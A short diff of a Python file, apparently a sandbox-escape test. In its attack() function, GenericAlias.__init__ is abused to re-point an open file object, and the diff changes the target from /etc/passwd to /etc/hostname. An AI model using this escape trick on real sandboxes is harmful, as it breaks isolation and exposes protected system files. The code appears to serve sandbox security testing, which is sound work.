@@ -14,5 +14,5 @@ class Alias(types.GenericAlias):
 
 def attack():
     file = open(__file__, "rb", 0)
-    Alias(file, (int,)).__init__("/etc/passwd")
+    Alias(file, (int,)).__init__("/etc/hostname")
     return "ESCAPED: " + file.read(20).decode()
